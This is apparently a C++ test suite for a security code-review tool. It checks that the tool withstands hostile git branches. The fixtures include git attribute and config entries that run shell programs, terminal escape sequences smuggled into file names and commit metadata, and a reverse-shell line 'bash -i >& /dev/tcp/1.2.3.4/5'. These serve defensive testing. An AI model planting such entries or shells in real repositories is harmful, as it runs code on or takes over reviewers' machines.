// Branches that are made to hurt the review, to hide from it, or to run something.
#include <algorithm>

#include "base/text.h"
#include "json/write.h"
#include "review/review_lab.h"

namespace bailey::review {
namespace {

using namespace std::string_literals;

// The agent's attributes name a textconv, a filter and an external diff, and hide files from diffs; the repository and
// the user's own configuration define such programs. Control: git itself, in the work tree, runs them.
TEST(HostileBranch, AttributesRunNothingAndHideNothing) {
  ReviewLab lab;
  const std::string mark = lab.lab.path("mark");
  lab.lab.out(
      "cd host && for d in diff.evil.textconv diff.evil.command filter.evil.clean filter.evil.smudge core.fsmonitor "
      "core.pager diff.external; do"
      " git config $d \"sh -c 'echo $d >>" +
      mark + "; cat \\\"\\$1\\\" 2>/dev/null' x\"; git config --global $d \"sh -c 'echo $d >>" + mark +
      "; cat' x\"; done");
  lab.write(".gitattributes", "* diff=evil filter=evil merge=evil\n*.py -diff binary\n");
  lab.write("src/a.py", "requests.get(u, verify=False)\n");
  lab.lab.out(
      "cd host && git -c core.fsmonitor=false -c filter.evil.clean= add -A -f && git -c core.fsmonitor=false commit -q "
      "-m x; rm -f " +
      mark);
  // The quarantine as an attacker would like it: with the same attributes, should anything look for them there.
  const auto review = lab.review_it();
  EXPECT_FALSE(os::exists(mark)) << os::read_file(mark).value_or("");
  EXPECT_NE(find(review, "verification-off", "src/a.py"), nullptr) << all_of(review);
  EXPECT_NE(find(review, "git-attribute", ".gitattributes"), nullptr);
  lab.lab.sh("cd host && git -c core.fsmonitor=false diff --ext-diff --textconv main work");
  EXPECT_TRUE(os::exists(mark)) << "control: the same attributes run the program in the user's own git";
}

TEST(HostileBranch, NamesWithNewlinesAndControlCharactersStayOnTheirLine) {
  ReviewLab lab;
  lab.write(".vscode/\x1b[2J\nhigh  fake.c:1  nothing\n.json", "{}\n");
  lab.lab.out("cd host && git add -A && git -c user.name='A\x1b[31m' commit -q -m 'subject \x1b]0;title\x07'");
  const auto review = lab.review_it();
  ASSERT_NE(find(review, "editor"), nullptr) << all_of(review);
  const auto text = all_of(review);
  EXPECT_EQ(text.find('\x1b'), std::string::npos);
  EXPECT_EQ(text.find("\nhigh  fake.c"), std::string::npos);
  EXPECT_EQ(json::write(to_json(review)).find('\x1b'), std::string::npos);
  EXPECT_EQ(json::write(to_sarif(review, "1")).find('\x1b'), std::string::npos);
}

TEST(HostileBranch, LargeFilesAreNamedNotRead) {
  ReviewLab lab;
  lab.commit("head -c 100000000 /dev/zero >big.bin; head -c 5000000 /dev/zero | tr '\\0' x >big.py");
  const auto review = lab.review_it();
  const auto* binary = find(review, "not-read", "big.bin");
  ASSERT_NE(binary, nullptr) << all_of(review);
  EXPECT_NE(binary->why.find("100 MB"), std::string::npos) << binary->why;
  const auto* source = find(review, "not-read", "big.py");
  ASSERT_NE(source, nullptr);
  EXPECT_EQ(source->severity, Severity::high);
}

// One pack with the trees, written by hand: git's own tools take minutes to make them.
constexpr const char* deep_tree =
    R"(cd host && blob=$(echo 'verify=False' | git hash-object -w --stdin) && python3 - $blob >../deep.pack 2>../top <<'END'
import hashlib, struct, sys, zlib
entries, body = [], b"100644 a.py\0" + bytes.fromhex(sys.argv[1])
for level in range(10001):
    name = hashlib.sha1(b"tree %d\0" % len(body) + body).digest()
    size = len(body)
    head = bytes([0x20 | (size & 15) | (0x80 if size > 15 else 0)]) + (bytes([size >> 4]) if size > 15 else b"")
    entries.append(head + b"\x78\x01\x01" + struct.pack("<HH", size, size ^ 65535) + body + struct.pack(">I", zlib.adler32(body)))
    body = b"40000 d\0" + name
pack = b"PACK" + struct.pack(">II", 2, len(entries)) + b"".join(entries)
sys.stdout.buffer.write(pack + hashlib.sha1(pack).digest())
sys.stderr.write(name.hex())
END
git index-pack --stdin <../deep.pack >/dev/null && git update-ref refs/heads/work $(git commit-tree -p HEAD -m deep $(cat ../top)))";

TEST(HostileBranch, ATreeOfTenThousandLevels) {
  ReviewLab lab;
  lab.lab.out(deep_tree);
  const auto review = lab.try_review();
  // git itself may refuse such a tree; then the review says so. It never ends in silence.
  if (!review) {
    EXPECT_FALSE(review.error().why.empty());
    return;
  }
  EXPECT_NE(find(*review, "verification-off"), nullptr);
}

TEST(HostileBranch, EveryLimitIsTold) {
  ReviewLab lab;
  lab.commit("for i in 1 2 3 4 5 6; do echo \"verify=False $i\" >f$i.py; done");
  lab.commit("for i in 1 2 3; do echo x >>f$i.py; done");
  const auto has = [](const Review& review, const char* rule, const char* words) {
    return std::ranges::any_of(review.findings, [&](const Finding& finding) {
      return finding.rule_id == rule && finding.why.find(words) != std::string::npos;
    });
  };
  EXPECT_TRUE(has(lab.review_it({.commits_max = 1}), "not-read", "commits"));
  EXPECT_TRUE(has(lab.review_it({.changes_max = 2}), "not-read", "files changed"));
  EXPECT_TRUE(has(lab.review_it({.text_bytes_max = 5}), "not-read", "of that size"));
  EXPECT_TRUE(has(lab.review_it({.tip_bytes_max = 20}), "not-read", "more than a review reads"));
  EXPECT_TRUE(has(lab.review_it({.time_max = std::chrono::milliseconds(0)}), "not-read", "more than a review reads"));
  EXPECT_TRUE(has(lab.review_it({.findings_per_rule_max = 2}), "flood", "verification-off"));
  const auto few = lab.review_it({.findings_max = 3});
  EXPECT_EQ(few.findings.size(), 3U);
  EXPECT_GT(few.findings_left_out, 0U);
}

TEST(HostileBranch, AFloodOfSmallFindingsHidesNoLargeOne) {
  ReviewLab lab;
  lab.commit(
      "i=0; while [ $i -lt 400 ]; do echo x >t$i.sh; chmod +x t$i.sh; i=$((i+1)); done; echo 'bash -i >& "
      "/dev/tcp/1.2.3.4/5' >z.sh");
  const auto review = lab.review_it({.findings_max = 50});
  ASSERT_FALSE(review.findings.empty());
  EXPECT_EQ(review.findings.front().rule_id, "remote-shell");
}

TEST(HostileBranch, PatternsTakeLinearTime) {
  ReviewLab lab;
  // What makes back-tracking engines hang, at the largest size that is read.
  lab.write("a.js", "password" + std::string(1'000'000, '(') + "\n" + std::string(1'000'000, '"') + "\n" +
                        std::string(1'000'000, ' ') + "eval(" + std::string(900'000, 'a'));
  lab.commit("true");
  const auto review = lab.review_it();
  EXPECT_NE(find(review, "long-line"), nullptr);
}

TEST(HostileBranch, ObjectsThatAreMissingAreAnErrorOrAFinding) {
  ReviewLab lab;
  lab.write("a.py", "verify=False\n");
  lab.commit("true");
  lab.lab.out(
      "cd host && o=$(git rev-parse work:a.py) && rm -f .git/objects/$(echo $o | cut -c1-2)/$(echo $o | cut -c3-)");
  const auto review = lab.review_it();
  ASSERT_NE(find(review, "not-read", "a.py"), nullptr) << all_of(review);
  lab.lab.out(
      "cd host && o=$(git rev-parse work^{tree}) && rm -f .git/objects/$(echo $o | cut -c1-2)/$(echo $o | cut -c3-)");
  EXPECT_FALSE(lab.try_review());
}

}  // namespace
}  // namespace bailey::review
